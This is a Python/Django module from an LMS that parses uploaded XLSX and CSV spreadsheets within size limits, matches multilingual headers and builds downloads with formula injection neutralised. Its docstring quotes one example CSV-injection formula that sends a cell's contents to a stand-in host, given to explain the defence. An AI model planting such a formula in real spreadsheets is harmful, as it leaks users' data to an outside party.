"""Spreadsheets in and out: every XLSX and CSV the LMS reads or writes goes through this module.

Reading (``table_read``): an upload is refused as a whole, with a message in the user's language, when it
is over a size cap, not an XLSX workbook or a UTF-8 CSV, empty, over a cap of rows, or has a row over a cap
of columns; blank rows are skipped and every row keeps its line number in the file, so the importers can
name the row (and ``cell_problem`` the column) of a bad value. ``header_names`` and ``header_positions``
match the header row against column names in en, ru and tk (and the usual other names). Nothing here
knows what a roster, an OJT record or a paper result is: each importer checks its own rows.

Writing:

A download is built the same way everywhere: a header row, real numbers and dates in the cells (not
text), UTF-8 with a BOM for CSV (Excel then opens Turkmen and Russian letters), and no text that a
spreadsheet would run as a formula. Names, topics and units are typed by users; a cell such as
``=HYPERLINK("http://x.example/?"&A1,"open")`` would otherwise be live when a manager opens the file
(OWASP "CSV injection"). So text starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
gets a leading single quote, in XLSX as in CSV (a workbook saved again as CSV stays safe), and XLSX text
cells are written with the string data type. Numbers, dates and booleans stay what they are: a negative
number is a number, not text.

Workbooks are written in openpyxl's write-only mode (rows streamed to the file, low memory for large
sheets). The caller describes each sheet with a ``Sheet``; ``frame_sheet`` turns a pandas DataFrame into one.
"""

from __future__ import annotations

import csv
import datetime
import io
import math
import re
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass, field
from decimal import Decimal

from django.conf import settings
from django.http import HttpResponse, StreamingHttpResponse
from django.utils import translation
from django.utils.functional import Promise
from django.utils.translation import gettext_lazy as _

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
DATE_FORMAT = "yyyy-mm-dd"
DATETIME_FORMAT = "yyyy-mm-dd hh:mm:ss"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
MAX_TITLE_CHARS = 31  # Excel's limit for a sheet name
README_TITLE = "Read me"
README_WIDTHS = (28, 28, 100)


@dataclass
class Sheet:
    """One table. ``header`` is the first row (None: no header row, e.g. a "Read me" sheet); ``rows`` are
    sequences of plain values; ``widths`` are column widths from column A; ``column_formats`` maps a
    0-based column to a number format for the whole column (so cells typed in later take it too)."""

    title: str
    header: Sequence | None
    rows: Iterable[Sequence] = ()
    widths: Sequence[float | None] = ()
    column_formats: dict[int, str] = field(default_factory=dict)
    bold_header: bool = True
    freeze_header: bool = True


def neutralise(text: str) -> str:
    """Text that a spreadsheet would read as a formula, with a single quote in front (OWASP)."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def plain(value):
    """A cell value as a plain Python value: None, bool, int, float, Decimal, date, datetime or str.

    NaN, NaT and pandas' NA become None; numpy scalars and pandas timestamps their Python equivalents;
    lazy translations and any other object their text. Text is not neutralised here (see ``text_cell``).
    """
    if value is None or isinstance(value, (bool, int, Decimal, str)):
        return value
    if isinstance(value, float):  # numpy's float64 too: as a Python float
        return None if math.isnan(value) else float(value)
    module = type(value).__module__
    if module.startswith("pandas"):
        import pandas as pd

        if pd.isna(value):
            return None
        if isinstance(value, pd.Timestamp):
            return value.to_pydatetime()
    if module.startswith("numpy") and hasattr(value, "item"):
        return plain(value.item())
    if isinstance(value, (datetime.date, datetime.datetime)):
        return value
    if isinstance(value, Promise):
        return str(value)
    return str(value)


def text_cell(value):
    """``plain(value)`` with text neutralised: what a cell of a download holds."""
    value = plain(value)
    return neutralise(value) if isinstance(value, str) else value


# --------------------------------------------------------------------------------------------------
# XLSX
# --------------------------------------------------------------------------------------------------


def _xlsx_fill(cell, value, *, bold: bool = False):
    """Put ``value`` in ``cell``: text neutralised and typed as a string, dates with a date format."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
    from openpyxl.styles import Font

    value = text_cell(value)
    if isinstance(value, datetime.datetime) and value.tzinfo is not None:
        value = value.replace(tzinfo=None)  # Excel has no time zones: keep the wall time
    if isinstance(value, str):
        value = ILLEGAL_CHARACTERS_RE.sub("", value)  # control characters openpyxl refuses
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"  # explicitly a string, never a formula
    elif isinstance(value, datetime.datetime):
        cell.number_format = DATETIME_FORMAT
    elif isinstance(value, datetime.date):
        cell.number_format = DATE_FORMAT
    if bold:
        cell.font = Font(bold=True)
    return cell


def _xlsx_rows(spec: Sheet):
    """(values, bold) per row of the sheet, the header first."""
    if spec.header is not None:
        yield spec.header, spec.bold_header
    for row in spec.rows:
        yield row, False


def xlsx_bytes(sheets: Iterable[Sheet], *, write_only: bool = True) -> bytes:
    """A workbook with the sheets in order.

    By default in openpyxl's write-only mode: rows go straight to the file, so a large sheet takes little
    memory. ``write_only=False`` builds the workbook in memory first; openpyxl then records each sheet's
    dimensions, so a reader in read-only mode gets rows of equal length (a template with blank lines).
    """
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.utils import get_column_letter

    workbook = Workbook(write_only=write_only)
    if not write_only:
        workbook.remove(workbook.active)
    for spec in sheets:
        sheet = workbook.create_sheet(str(spec.title)[:MAX_TITLE_CHARS])
        for index, width in enumerate(spec.widths, start=1):
            if width:
                sheet.column_dimensions[get_column_letter(index)].width = width
        for index, number_format in spec.column_formats.items():
            sheet.column_dimensions[get_column_letter(index + 1)].number_format = number_format
        if spec.header is not None and spec.freeze_header:
            sheet.freeze_panes = "A2"
        for number, (values, bold) in enumerate(_xlsx_rows(spec), start=1):
            if write_only:
                sheet.append([_xlsx_fill(WriteOnlyCell(sheet), value, bold=bold) for value in values])
            else:
                for column, value in enumerate(values, start=1):
                    _xlsx_fill(sheet.cell(row=number, column=column), value, bold=bold)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def readme_sheet(rows: Iterable[Sequence], *, title: str = README_TITLE) -> Sheet:
    """A "Read me" sheet: title lines, then (sheet, column, definition) rows; every cell as text."""
    return Sheet(
        title=title,
        header=None,
        rows=[[None if value is None else str(value) for value in row] for row in rows],
        widths=README_WIDTHS,
    )


def xlsx_response(sheets: Iterable[Sheet], *, filename: str) -> HttpResponse:
    """The sheets as an XLSX attachment called ``filename``."""
    response = HttpResponse(xlsx_bytes(sheets), content_type=XLSX_CONTENT_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


# --------------------------------------------------------------------------------------------------
# CSV
# --------------------------------------------------------------------------------------------------


def _csv_value(value):
    value = text_cell(value)
    if value is None:
        return ""
    if isinstance(value, (datetime.date, datetime.datetime)):
        return str(value)  # ISO 8601 (a space between date and time, as pandas writes it)
    return value


def csv_write(out, sheet: Sheet) -> None:
    """Write ``sheet`` (its header, then its rows) to the text stream ``out`` as CSV."""
    writer = csv.writer(out)
    if sheet.header is not None:
        writer.writerow([_csv_value(value) for value in sheet.header])
    for row in sheet.rows:
        writer.writerow([_csv_value(value) for value in row])


def csv_text(sheet: Sheet) -> str:
    buffer = io.StringIO()
    csv_write(buffer, sheet)
    return buffer.getvalue()


class _Line:
    """A file-like object that hands back what ``csv.writer`` writes (one row at a time)."""

    def write(self, text):
        return text


def csv_lines(sheet: Sheet):
    """The CSV text of ``sheet`` row by row, after a BOM: a large table never sits in memory whole."""
    writer = csv.writer(_Line())
    yield "\ufeff"
    if sheet.header is not None:
        yield writer.writerow([_csv_value(value) for value in sheet.header])
    for row in sheet.rows:
        yield writer.writerow([_csv_value(value) for value in row])


def csv_response(sheet: Sheet, *, filename: str, stream: bool = False) -> HttpResponse | StreamingHttpResponse:
    """One table as a CSV attachment, UTF-8 with a BOM. ``stream``: sent row by row as it is written
    (a ``StreamingHttpResponse``: read it with ``streaming_content``), for tables that may be large."""
    if stream:
        response = StreamingHttpResponse(csv_lines(sheet), content_type=CSV_CONTENT_TYPE)
        response["Content-Disposition"] = f'attachment; filename="{filename}"'
        return response
    response = HttpResponse(content_type=CSV_CONTENT_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response.write("\ufeff")
    csv_write(response, sheet)
    return response


# --------------------------------------------------------------------------------------------------
# pandas
# --------------------------------------------------------------------------------------------------


def frame_sheet(title: str, frame) -> Sheet:
    """A pandas DataFrame as a sheet: its column names as the header, a row per record, no index."""
    return Sheet(
        title=title,
        header=[str(column) for column in frame.columns],
        rows=frame.itertuples(index=False, name=None),
        freeze_header=False,
    )


# --------------------------------------------------------------------------------------------------
# Reading
# --------------------------------------------------------------------------------------------------

TOO_BIG = _("The file is larger than %(size)s MB.")
TOO_MANY_ROWS = _("The file has more than %(count)s rows: split it into smaller files.")
TOO_MANY_COLUMNS = _("Row %(row)s has more than %(limit)s filled columns: remove the columns the import does not use.")
NOT_A_TABLE = _("The file is neither an Excel workbook (.xlsx) nor a CSV file in UTF-8.")
NOT_XLSX = _("This is not an XLSX workbook: save the sheet as .xlsx and try again.")
EMPTY = _("The file is empty.")
MISSING_COLUMNS = _("The file has no column %(columns)s. Name the columns as in the template, in English, Russian or Turkmen.")
DUPLICATE_COLUMN = _("Columns %(first)s and %(second)s both give “%(name)s”: keep one of them.")
CELL_PROBLEM = _("Row %(row)s, column %(column)s: %(problem)s")
XLSX, CSV = "xlsx", "csv"


class SpreadsheetRefused(ValueError):
    """An upload that cannot be read as a table; ``message`` (lazy, in the user's language) says why."""

    def __init__(self, message, *, code: str):
        super().__init__(code)
        self.message = message
        self.code = code


@dataclass(frozen=True)
class ReadLimits:
    max_bytes: int = 2 * 1024 * 1024
    max_rows: int = 2000  # rows with something in them after the header
    max_columns: int = 200  # filled columns of one row (trailing blank cells are not counted)
    # rows read in all, blank ones included: a sheet formatted down to row 1,048,576 is read this far only
    max_scanned_rows: int = 40_000


@dataclass
class Table:
    """The rows of a file that hold something, each ``(line number in the file, [values])``. Values are as the
    file holds them: text from a CSV; text, numbers, dates or None from a workbook (``cell_text`` for text)."""

    format: str
    rows: list[tuple[int, list]] = field(default_factory=list)


def cell_text(value) -> str:
    """A cell as text: '' for empty, 12 for a number typed as 12 (read back as 12.0), dates in ISO form."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, float) and value.is_integer():
        return str(int(value))
    if isinstance(value, datetime.datetime):
        return value.date().isoformat() if value.time() == datetime.time() else value.isoformat(sep=" ")
    if isinstance(value, datetime.date):
        return value.isoformat()
    return str(value).strip()


def column_letter(index: int) -> str:
    """The spreadsheet name of a 0-based column: A, B, …, Z, AA, …"""
    letters = ""
    index += 1
    while index:
        index, rest = divmod(index - 1, 26)
        letters = chr(ord("A") + rest) + letters
    return letters


def column_label(index: int, header: str = "") -> str:
    """A column as a message names it: its letter, and its header when it has one (C “Date”)."""
    return f"{column_letter(index)} “{header}”" if header else column_letter(index)


def cell_problem(*, row: int, column: int, header: str = "", problem) -> str:
    """One message for a bad cell: its row, its column (letter and header) and what is wrong."""
    return str(CELL_PROBLEM) % {"row": row, "column": column_label(column, header), "problem": problem}


def _filled(values) -> int:
    """The number of columns up to the last one with something in it."""
    count = len(values)
    while count and cell_text(values[count - 1]) == "":
        count -= 1
    return count


def _xlsx_lines(raw: bytes, limits: ReadLimits):
    from openpyxl import load_workbook

    if raw[:2] != b"PK":
        raise SpreadsheetRefused(NOT_A_TABLE, code="not_a_table")
    try:
        workbook = load_workbook(io.BytesIO(raw), read_only=True, data_only=True)
    except Exception as error:  # openpyxl raises many kinds for a damaged or foreign file
        raise SpreadsheetRefused(NOT_A_TABLE, code="not_a_table") from error
    try:
        sheet = workbook.worksheets[0]
        # max_col: a row is never read wider than the cap allows to see (a cell in column XFD costs nothing)
        for number, values in enumerate(sheet.iter_rows(values_only=True, max_col=limits.max_columns + 1), start=1):
            yield number, list(values)
    except SpreadsheetRefused:
        raise
    except Exception as error:
        raise SpreadsheetRefused(NOT_A_TABLE, code="not_a_table") from error
    finally:
        workbook.close()


def _csv_lines(raw: bytes, limits: ReadLimits):
    try:
        text = raw.decode("utf-8-sig")
    except UnicodeDecodeError as error:
        raise SpreadsheetRefused(NOT_A_TABLE, code="not_a_table") from error
    if "\x00" in text:
        raise SpreadsheetRefused(NOT_A_TABLE, code="not_a_table")
    try:
        dialect = csv.Sniffer().sniff(text[:4096], delimiters=",;\t")
    except csv.Error:
        dialect = csv.excel
    try:
        for number, values in enumerate(csv.reader(io.StringIO(text), dialect), start=1):
            yield number, [value.strip() for value in values]
    except csv.Error as error:  # a field over csv's size limit, a NUL …
        raise SpreadsheetRefused(NOT_A_TABLE, code="not_a_table") from error


def _format(upload, raw: bytes, formats: tuple) -> str:
    """XLSX or CSV, by the file's name (another extension is refused), or by its bytes when it has none."""
    name = (getattr(upload, "name", "") or "").lower()
    base = name.rsplit("/", 1)[-1]
    extension = base.rsplit(".", 1)[-1] if "." in base else ""
    if formats == (XLSX,):
        return XLSX
    if extension in (XLSX, CSV):
        return extension
    if extension:
        raise SpreadsheetRefused(NOT_A_TABLE, code="not_a_table")
    return XLSX if raw[:2] == b"PK" else CSV


def table_read(upload, *, limits: ReadLimits = ReadLimits(), formats: Sequence[str] = (XLSX, CSV)) -> Table:
    """Read the first sheet of an ``.xlsx`` upload, or a ``.csv`` one (UTF-8, with or without a byte order mark,
    separated by commas, semicolons or tabs), within ``limits``; raise ``SpreadsheetRefused`` otherwise.

    ``formats=(XLSX,)`` accepts workbooks only, whatever the name. The first row with something in it is
    taken for the header: ``limits.max_rows`` counts the rows after it.
    """
    formats = tuple(formats)
    size = getattr(upload, "size", None)
    too_big = {"size": max(limits.max_bytes // (1024 * 1024), 1)}
    if size is not None and size > limits.max_bytes:
        raise SpreadsheetRefused(str(TOO_BIG) % too_big, code="too_big")
    if hasattr(upload, "seek"):
        upload.seek(0)
    raw = upload.read(limits.max_bytes + 1)
    if len(raw) > limits.max_bytes:
        raise SpreadsheetRefused(str(TOO_BIG) % too_big, code="too_big")
    kind = _format(upload, raw, formats)
    if not raw.strip():
        raise SpreadsheetRefused(EMPTY, code="empty")
    too_many_rows = SpreadsheetRefused(str(TOO_MANY_ROWS) % {"count": limits.max_rows}, code="too_many_rows")
    table = Table(format=kind)
    try:
        lines = _xlsx_lines(raw, limits) if kind == XLSX else _csv_lines(raw, limits)
        for number, values in lines:
            if number > limits.max_scanned_rows:
                raise too_many_rows
            width = _filled(values)
            if not width:
                continue
            if width > limits.max_columns:
                raise SpreadsheetRefused(
                    str(TOO_MANY_COLUMNS) % {"row": number, "limit": limits.max_columns}, code="too_many_columns"
                )
            table.rows.append((number, values[:width]))
            if len(table.rows) > limits.max_rows + 1:  # the header and max_rows rows
                raise too_many_rows
    except SpreadsheetRefused as refused:
        if formats == (XLSX,) and refused.code == "not_a_table":
            raise SpreadsheetRefused(NOT_XLSX, code="not_xlsx") from refused
        raise
    if not table.rows:
        raise SpreadsheetRefused(EMPTY, code="empty")
    return table


# --- the header row ---------------------------------------------------------------------------------------


def header_key(text) -> str:
    """A header as compared: case-folded, without spaces, punctuation, stars or a note in brackets
    (``E-mail *`` = ``email``, ``Дата (ДД.ММ.ГГГГ)`` = ``дата``)."""
    text = re.sub(r"\(.*?\)", "", str(text or ""))
    return re.sub(r"[\W_]+", "", text.casefold()).replace("ё", "е")


def in_languages(text) -> set[str]:
    """A translatable text in each language of the site (a template's header is written in one of them)."""
    found = set()
    for code, _name in settings.LANGUAGES:
        with translation.override(code):
            found.add(str(text))
    return found


def header_names(columns: Mapping[str, Iterable]) -> dict[str, str]:
    """Every accepted header (as ``header_key`` has it) and the field it names. ``columns`` maps a field to
    its names: lazy translatable texts count in every language, plain strings as they are."""
    names = {}
    for name, labels in columns.items():
        for label in labels:
            for text in in_languages(label) if isinstance(label, Promise) else {label}:
                names[header_key(text)] = name
    return names


def header_positions(cells: Sequence, names: Mapping[str, str], *, required: Iterable[str] = (),
                     labels: Mapping[str, object] | None = None) -> dict[str, int]:
    """The column of each field the header row names. Columns it does not know are ignored; a field named
    twice, or a required field not named, refuses the file with the columns or fields in the message
    (``labels`` gives a field's name for it, in the user's language)."""
    positions: dict[str, int] = {}
    for index, cell in enumerate(cells):
        header = cell_text(cell)
        field_name = names.get(header_key(header)) if header else None
        if field_name is None:
            continue
        if field_name in positions:
            first = positions[field_name]
            raise SpreadsheetRefused(
                str(DUPLICATE_COLUMN) % {"first": column_label(first, cell_text(cells[first])),
                                         "second": column_label(index, header), "name": header},
                code="duplicate_column",
            )
        positions[field_name] = index
    missing = [name for name in required if name not in positions]
    if missing:
        shown = ", ".join(f"“{(labels or {}).get(name, name)}”" for name in missing)
        raise SpreadsheetRefused(str(MISSING_COLUMNS) % {"columns": shown}, code="missing_columns")
    return positions
